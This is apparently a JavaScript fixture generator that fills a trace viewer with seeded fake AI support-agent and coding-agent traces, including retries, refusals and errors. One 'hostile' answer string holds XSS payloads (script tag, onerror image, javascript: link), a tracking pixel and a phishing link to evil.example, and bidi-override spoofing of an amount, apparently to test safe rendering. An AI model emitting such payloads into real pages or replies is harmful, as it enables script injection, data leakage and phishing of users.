// Generated traces for developing the page without a server. Seeded: every run is the same.
import { createHash } from 'node:crypto';

let state = 42;
export const random = () => (state = (state * 1103515245 + 12345) & 0x7fffffff) / 0x7fffffff;
const pick = (items) => items[Math.floor(random() * items.length)];
const hex = (digits) => Array.from({ length: digits }, () => Math.floor(random() * 16).toString(16)).join('');
const sha = (bytes) => createHash('sha256').update(bytes).digest('hex');
export const iso = (ns) => new Date(Number(ns / 1000000n)).toISOString().slice(0, 19) + '.' + String(ns % 1000000000n).padStart(9, '0') + 'Z';
const millis = (ms) => BigInt(Math.round(ms * 1e6));

export const now = BigInt(Date.now()) * 1000000n;
export const traces = new Map();

const SYSTEM = `# Role\nYou are the support agent of a shop. Today is 2026-11-22.\n\n## Policy\n${Array.from({ length: 40 }, (_, i) => `${i + 1}. Rule ${i + 1}: be concise, check the order first, never promise a refund above the limit of 100 EUR.`).join('\n')}`;
const HOSTILE = `Sure!\n\n<script>document.title='owned'</script>\n<img src=x onerror="alert(1)">\n\n![tracking](https://evil.example/pixel.png?q=secret)\n\nPlease pay \u202e000,1\u202c EUR to \u2066acct\u2069 with zero\u200bwidth and NUL \u0000 and BOM \ufeff.\n\n[click here](javascript:alert(1)) or [our bank](https://evil.example/login).\n\n| a | b |\n|---|---|\n| <b>bold</b> | 2 |`;

function span(trace, parent, kind, name, offset, length, more = {}) {
  const node = {
    spanId: hex(16), depth: parent ? parent.depth + 1 : 0, kind, name, startTime: iso(trace.start + millis(offset)),
    offsetMs: offset, durationMs: length, status: 'ok', ...more,
  };
  if (parent) { node.parentSpanId = parent.spanId; parent.children = (parent.children ?? 0) + 1; }
  trace.spans.push(node);
  return node;
}

function payload(node, name, contentType, bytes, redactions = 0) {
  node.store ??= new Map();
  const content = Buffer.isBuffer(bytes) ? bytes : Buffer.from(bytes);
  node.store.set(name, { name, contentType, length: content.length, sha256: sha(content), redactions, content });
  return name;
}

const text = (role, value) => ({ role, name: null, parts: [{ type: 'text', text: value }] });
const wire = (m) => ({ role: m.role, content: m.parts.map((p) => p.text ?? p.content ?? '').join('') });

function call(trace, parent, offset, length, history, answer, more = {}) {
  const model = more.model ?? 'gpt-5-2026-08-01';
  const failed = more.status === 'error';
  const node = span(trace, parent, 'llm', `chat ${model}`, offset, length, {
    provider: model.startsWith('claude') ? 'anthropic' : 'openai', model, stream: true, timeToFirstTokenMs: length * 0.4,
    inputTokens: 3900, outputTokens: 231, cacheReadTokens: 3072, finishReason: 'stop', promptName: 'refund', promptVersion: 'v4', ...more,
  });
  if (node.costUsd === undefined && !failed && model !== 'house-model') node.costUsd = 0.0211;
  const request = JSON.stringify({ model, temperature: 0.2, seed: 12345678901234567890n.toString(), messages: history.map(wire) });
  const deltas = answer ? answer.parts.map((p) => p.text ?? '').join('').match(/[\s\S]{1,24}/g) ?? [] : [];
  const sse = deltas.map((d) => `data: ${JSON.stringify({ id: 'chatcmpl-1', choices: [{ index: 0, delta: { content: d } }] })}\n\n`).concat('data: [DONE]\n\n');
  const attempts = more.tries ?? 1;
  node.full = { history, answer, attempts: [] };
  for (let n = 1; n <= attempts; n++) {
    const last = n === attempts;
    const share = length / attempts;
    const at = offset + (n - 1) * share;
    payload(node, `request.${n}`, 'application/json', request, n === 1 ? more.redactions ?? 0 : 0);
    const error = JSON.stringify({ error: { message: 'Rate limit reached for gpt-5: limit 30000 tokens per minute. Try again in 1.2 s.', type: 'tokens', code: 'rate_limit_exceeded' } }, null, 2);
    payload(node, `response.${n}`, last && !failed ? 'text/event-stream' : 'application/json', last && !failed ? sse.join('') : error);
    node.full.attempts.push({
      number: n, startTime: iso(trace.start + millis(at)), startEpochNanos: String(trace.start + millis(at)), durationMs: last ? share : share * 0.1,
      method: 'POST', url: 'https://api.openai.com/v1/chat/completions', httpStatus: last && !failed ? 200 : 429,
      requestHeaders: [{ name: 'Content-Type', value: 'application/json' }, { name: 'X-Stainless-Retry-Count', value: String(n - 1) }],
      responseHeaders: [{ name: 'content-type', value: 'text/event-stream' }, { name: 'x-request-id', value: `req_${hex(12)}` }, { name: 'x-ratelimit-remaining-tokens', value: '0' }],
      requestPayload: `request.${n}`, responsePayload: `response.${n}`, chunksPayload: last && !failed ? `chunks.${n}` : null,
      firstByteMs: share * 0.3, ending: last && node.status === 'incomplete' ? 'error' : 'end',
      error: last && !failed ? null : { type: 'rate_limit_exceeded', message: 'Rate limit reached for gpt-5' },
    });
    if (last && !failed) node.full.chunks = sse.map((piece, index) => ({ piece, ms: share * (0.4 + (0.6 * index) / sse.length) }));
  }
  node.attempts = node.full.attempts.map((a) => ({ number: a.number, httpStatus: a.httpStatus, ending: a.ending, offsetMs: Number(BigInt(a.startEpochNanos) - trace.start) / 1e6, durationMs: a.durationMs }));
  delete node.tries; delete node.redactions;
  return node;
}

function tool(trace, parent, offset, length, name, args, result, more = {}) {
  const node = span(trace, parent, 'tool', name, offset, length, { toolName: name, toolCallId: 'call_1', answer: result.slice(0, 300), ...more });
  payload(node, 'tool.arguments', 'application/json', args);
  payload(node, 'tool.result', 'application/json', result);
  node.full = { input: args, output: result, attempts: [] };
  return node;
}

function newTrace(question, answer, ageSeconds, more = {}) {
  const start = now - BigInt(Math.round(ageSeconds * 1e9)) + 123456n;
  const trace = { traceId: hex(32), name: 'handle_message', start, spans: [], question, answer, userId: `u-${1000 + Math.floor(random() * 60)}`, session: null, ...more };
  traces.set(trace.traceId, trace);
  return trace;
}

export function conversation(ageSeconds, flavour, more = {}) {
  const order = 8000 + Math.floor(random() * 900);
  const question = flavour === 'long' ? `Please read this log and tell me what broke. ${'lorem ipsum dolor sit amet '.repeat(20)}` : pick([`Where is my refund for order ${order}?`, `Kann ich Bestellung ${order} noch ändern?`, `أين طلبي رقم ${order}؟`, `I want to exchange the keyboard in order ${order} for one with blue switches`, `注文 ${order} はいつ届きますか`]);
  const refusal = flavour === 'refusal';
  const answer = flavour === 'hostile' ? HOSTILE : refusal ? "I'm sorry, I can't help with that request." : flavour === 'error' ? null : pick([`Your refund of 100 EUR for order **${order}** was issued on 3 November.\n\nIt reaches your card within:\n\n- 3 days for debit cards\n- 5 days for credit cards`, 'I can exchange it for you. The difference of $23.10 goes to your original payment method. Shall I go ahead?', 'Done. You will get a confirmation by mail.']);
  const trace = newTrace(question, answer?.slice(0, 300) ?? null, ageSeconds, { session: more.session ?? null, ...more });
  const root = span(trace, null, 'agent', 'handle_message', 0, 3210, { status: flavour === 'error' ? 'error' : 'ok', userId: trace.userId });
  span(trace, root, 'retrieval', 'retrieve policy', 8, 390, {});
  const history = [text('system', SYSTEM), ...(more.history ?? []), text('user', flavour === 'long' ? `${question}\n\n${longText()}` : question)];
  const asks = { role: 'assistant', name: null, parts: [{ type: 'reasoning', text: 'The user asks about an order. I should look it up first.' }, { type: 'text', text: '' }, { type: 'tool_request', id: 'call_1', name: 'lookup_order', arguments: `{"order_id": ${order}, "fields": ["status", "refund", "items"], "exact": 12345678901234567890}` }] };
  const first = call(trace, root, 400, 1200, history, asks, { question, answer: 'lookup_order(…)', finishReason: 'tool_call', tries: flavour === 'retry' || flavour === 'error' ? 3 : 1, redactions: flavour === 'hostile' ? 2 : 0, tags: ['support'], ...(flavour === 'error' ? { status: 'error', errorType: 'rate_limit_exceeded', errorMessage: 'Rate limit reached for gpt-5: limit 30000 tokens per minute. Try again in 1.2 s.' } : {}) });
  if (flavour === 'error') { root.errorMessage = 'RateLimitException: gave up after 3 attempts'; root.errorType = 'RateLimitException'; first.full.answer = null; return trace; }
  const result = JSON.stringify({ status: 'returned', refund: { amount: 100.0, currency: 'EUR', issued: '2026-11-03' }, items: Array.from({ length: 6 }, (_, i) => ({ id: i, name: `Item ${i}`, options: { colour: 'blue', size: null } })) });
  tool(trace, root, 1610, 110, 'lookup_order', asks.parts[2].arguments, result, { inferred: true });
  const second = call(trace, root, 1730, 1100, [...history, asks, { role: 'tool', name: null, parts: [{ type: 'tool_result', id: 'call_1', name: 'lookup_order', content: result, isError: false }] }],
    { role: 'assistant', name: null, parts: [refusal ? { type: 'refusal', text: answer } : { type: 'text', text: answer }] },
    { question, answer: answer.slice(0, 300), status: refusal ? 'refusal' : 'ok', finishReason: refusal ? 'refusal' : 'stop', outcome: 'shown', continues: { traceId: trace.traceId, spanId: first.spanId }, relation: 'continues', ...(flavour === 'unpriced' ? { model: 'house-model' } : {}) });
  second.full.shared = history.length + 1;
  const last = span(trace, root, 'final_response', 'final response', 3190, 4, { answer: answer.slice(0, 300), outcome: 'shown' });
  last.full = { output: answer, attempts: [] };
  payload(last, 'output', 'text/plain', answer);
  trace.after = [...history, asks, text('assistant', answer)].slice(1);
  return trace;
}

const longText = () => Array.from({ length: 60000 }, (_, i) => `2026-11-22T02:${String(i % 60).padStart(2, '0')}:00Z INFO worker-${i % 17} handled request ${i} in ${i % 97} ms for user u-${i % 1000}`).join('\n');

export function huge(count) {
  const trace = newTrace('Refactor the payment module', 'All 412 tests pass.', 60, { name: 'coding agent' });
  const root = span(trace, null, 'agent', 'coding agent', 0, count * 12);
  let at = 0;
  while (trace.spans.length < count) {
    const step = span(trace, root, 'chain', `step ${trace.spans.length}`, at, 110);
    const llm = span(trace, step, 'llm', 'chat claude-sonnet-5', at + 2, 60, { model: 'claude-sonnet-5', provider: 'anthropic', timeToFirstTokenMs: 20, inputTokens: 41000, outputTokens: 420, costUsd: 0.031, status: random() < 0.003 ? 'refusal' : 'ok' });
    for (let i = 0; i < 6 && trace.spans.length < count; i++) span(trace, step, 'tool', pick(['read_file', 'edit_file', 'run_tests', 'grep']), at + 64 + i * 6, 5, { toolName: 'x', inferred: i % 2 === 0 || undefined, status: random() < 0.004 ? 'error' : 'ok' });
    llm.attempts = [{ number: 1, httpStatus: 200, ending: 'end', offsetMs: at + 3, durationMs: 57 }];
    at += 100;
  }
  return trace;
}

export function generate(count) {
  huge(50000);
  const flavours = ['plain', 'plain', 'plain', 'refusal', 'plain', 'retry', 'error', 'plain', 'unpriced', 'hostile'];
  let history; let session;
  for (let i = 0; i < count; i++) {
    if (i % 4 === 0) { session = { id: `s-${hex(8)}`, declared: i % 8 === 0 }; history = []; }
    const trace = conversation(90 + (count - i) * (random() * 20 + 40), i === 3 ? 'long' : flavours[i % flavours.length], { session, history });
    if (trace.after) history = trace.after;
  }
}
